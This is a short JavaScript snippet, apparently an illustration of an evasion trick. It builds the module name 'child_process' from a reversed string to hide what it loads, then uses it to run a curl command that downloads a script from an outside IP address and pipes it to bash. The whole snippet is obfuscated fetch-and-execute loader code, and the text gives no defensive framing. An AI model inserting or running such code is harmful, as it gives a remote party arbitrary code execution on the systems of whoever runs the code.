// assembled-name: a reversed string gives the module name
const mod = 'ssecorp_dlihc'.split('').reverse().join('');
require(mod).exec('curl -s http://203.0.113.7/a | bash');
